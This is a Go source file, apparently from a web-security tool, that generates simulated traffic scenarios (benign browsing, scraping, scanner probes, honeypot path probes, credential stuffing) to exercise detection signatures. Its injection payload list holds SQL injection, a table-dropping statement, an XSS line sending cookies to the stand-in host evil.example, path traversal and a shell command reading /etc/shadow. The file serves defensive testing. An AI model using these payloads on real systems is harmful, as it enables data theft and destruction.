package simulator

import (
	"fmt"
	"time"

	"github.com/brianvoe/gofakeit/v6"

	"github.com/telhawk-systems/telhawk-guard/pkg/model"
)

var browserAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
}

var toolAgents = []string{
	"sqlmap/1.7.12#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
	"curl/8.4.0",
	"python-requests/2.31.0",
	"Wget/1.21.4",
	"Go-http-client/1.1",
}

// Each payload matches one of the built-in signatures. Destructive ones are
// last so earlier requests are not pre-empted by an IP block.
var injectionPayloads = []string{
	"' OR 1=1 --",
	"1 UNION SELECT username, password FROM users",
	"<script>document.location='http://evil.example/'+document.cookie</script>",
	"../../../../etc/passwd",
	"name; cat /etc/shadow",
	"1'; DROP TABLE users; --",
}

var honeypotPaths = []string{
	"/.env",
	"/wp-login.php",
	"/.git/config",
	"/admin/backup",
	"/phpmyadmin",
}

// privateIP returns an address in 10.<block>.0.0/16 so scenarios never share actors.
func privateIP(f *gofakeit.Faker, block int) string {
	return fmt.Sprintf("10.%d.%d.%d", block, f.Number(0, 255), f.Number(1, 254))
}

func jitter(f *gofakeit.Faker, minMillis, maxMillis int) time.Duration {
	return time.Duration(f.Number(minMillis, maxMillis)) * time.Millisecond
}

// Browsing is ordinary shoppers reading products at human pace.
type Browsing struct {
	Users           int
	RequestsPerUser int
}

func init() {
	Register(&Browsing{Users: 5, RequestsPerUser: 8})
	Register(&Scraping{Requests: 40})
	Register(&Injection{})
	Register(&Honeypot{})
	Register(&Scanner{Probes: 6})
	Register(&CredentialStuffing{Attempts: 12})
}

func (s *Browsing) Name() string { return "browsing" }

func (s *Browsing) Description() string {
	return "Benign users browsing products with human request timing"
}

func (s *Browsing) Generate(f *gofakeit.Faker) []Step {
	var steps []Step
	for u := 0; u < s.Users; u++ {
		user := f.Username()
		ip := privateIP(f, 1)
		ua := f.RandomString(browserAgents)
		offset := jitter(f, 0, 5000)
		for i := 0; i < s.RequestsPerUser; i++ {
			rc := model.RequestContext{
				UserID:    user,
				IPAddress: ip,
				UserAgent: ua,
				Endpoint:  fmt.Sprintf("/api/products/%d", f.Number(1, 50000)),
				Method:    "GET",
				RequestID: f.UUID(),
			}
			var payload any
			if i == s.RequestsPerUser-1 {
				rc.Endpoint, rc.Method = "/api/reviews", "POST"
				payload = map[string]any{"rating": f.Number(1, 5), "comment": f.Sentence(8)}
			}
			steps = append(steps, Step{Offset: offset, Request: rc, Payload: payload})
			offset += jitter(f, 3000, 15000)
		}
	}
	return steps
}

// Scraping walks sequential product identifiers at a fixed fast cadence.
type Scraping struct {
	Requests int
}

func (s *Scraping) Name() string { return "scraping" }

func (s *Scraping) Description() string {
	return "A single client enumerating sequential product IDs every 500ms"
}

func (s *Scraping) Generate(f *gofakeit.Faker) []Step {
	ip := privateIP(f, 2)
	ua := f.RandomString(browserAgents)
	start := f.Number(1000, 2000)
	steps := make([]Step, s.Requests)
	for i := range steps {
		steps[i] = Step{
			Offset: time.Duration(i) * 500 * time.Millisecond,
			Request: model.RequestContext{
				IPAddress: ip,
				UserAgent: ua,
				Endpoint:  fmt.Sprintf("/api/products/%d", start+i),
				Method:    "GET",
				RequestID: f.UUID(),
			},
		}
	}
	return steps
}

// Injection submits comments carrying SQL, script and shell payloads.
type Injection struct{}

func (s *Injection) Name() string { return "injection" }

func (s *Injection) Description() string {
	return "SQL injection, XSS, traversal and command injection in request bodies"
}

func (s *Injection) Generate(f *gofakeit.Faker) []Step {
	ip := privateIP(f, 3)
	ua := f.RandomString(browserAgents)
	steps := make([]Step, len(injectionPayloads))
	var offset time.Duration
	for i, p := range injectionPayloads {
		steps[i] = Step{
			Offset: offset,
			Request: model.RequestContext{
				IPAddress: ip,
				UserAgent: ua,
				Endpoint:  "/api/reviews",
				Method:    "POST",
				RequestID: f.UUID(),
			},
			Payload: map[string]any{
				"product_id": f.Number(1, 50000),
				"author":     f.Name(),
				"comment":    f.Sentence(4) + " " + p,
			},
		}
		offset += jitter(f, 2000, 6000)
	}
	return steps
}

// Honeypot probes trap paths that no legitimate client requests.
type Honeypot struct{}

func (s *Honeypot) Name() string { return "honeypot" }

func (s *Honeypot) Description() string {
	return "Opportunistic probing of well-known sensitive paths"
}

func (s *Honeypot) Generate(f *gofakeit.Faker) []Step {
	ip := privateIP(f, 4)
	ua := f.RandomString(browserAgents)
	steps := make([]Step, len(honeypotPaths))
	var offset time.Duration
	for i, path := range honeypotPaths {
		steps[i] = Step{
			Offset:  offset,
			Request: model.RequestContext{IPAddress: ip, UserAgent: ua, Endpoint: path, Method: "GET", RequestID: f.UUID()},
		}
		offset += jitter(f, 1000, 3000)
	}
	return steps
}

// Scanner sends requests from vulnerability scanners and HTTP tooling.
type Scanner struct {
	Probes int
}

func (s *Scanner) Name() string { return "scanner" }

func (s *Scanner) Description() string {
	return "Automated tools identifying themselves in the User-Agent header"
}

func (s *Scanner) Generate(f *gofakeit.Faker) []Step {
	steps := make([]Step, s.Probes)
	var offset time.Duration
	for i := range steps {
		steps[i] = Step{
			Offset: offset,
			Request: model.RequestContext{
				IPAddress: privateIP(f, 5),
				UserAgent: toolAgents[i%len(toolAgents)],
				Endpoint:  "/" + f.Word(),
				Method:    f.RandomString([]string{"GET", "HEAD", "OPTIONS"}),
				RequestID: f.UUID(),
			},
		}
		offset += jitter(f, 200, 1500)
	}
	return steps
}

// CredentialStuffing hammers one account's login with bad passwords. The
// host application reports each failure back to the engine.
type CredentialStuffing struct {
	Attempts int
}

func (s *CredentialStuffing) Name() string { return "credential-stuffing" }

func (s *CredentialStuffing) Description() string {
	return "Repeated failed logins against one account from a single address"
}

func (s *CredentialStuffing) Generate(f *gofakeit.Faker) []Step {
	ip := privateIP(f, 6)
	ua := f.RandomString(browserAgents)
	target := f.Username()
	steps := make([]Step, s.Attempts)
	var offset time.Duration
	for i := range steps {
		rc := model.RequestContext{IPAddress: ip, UserAgent: ua, Endpoint: "/login", Method: "POST", RequestID: f.UUID()}
		ev := model.NewAuditEvent("login", model.RequestContext{
			UserID: target, IPAddress: ip, UserAgent: ua, Endpoint: "/login", Method: "POST",
		}, model.SeverityLow, model.ResultFailure)
		ev.Metadata = ev.Metadata.Set(model.MetaReason, "invalid password")
		steps[i] = Step{
			Offset:  offset,
			Request: rc,
			Payload: map[string]any{"username": target, "password": f.Password(true, true, true, false, false, 12)},
			Event:   &ev,
		}
		offset += jitter(f, 1500, 4000)
	}
	return steps
}
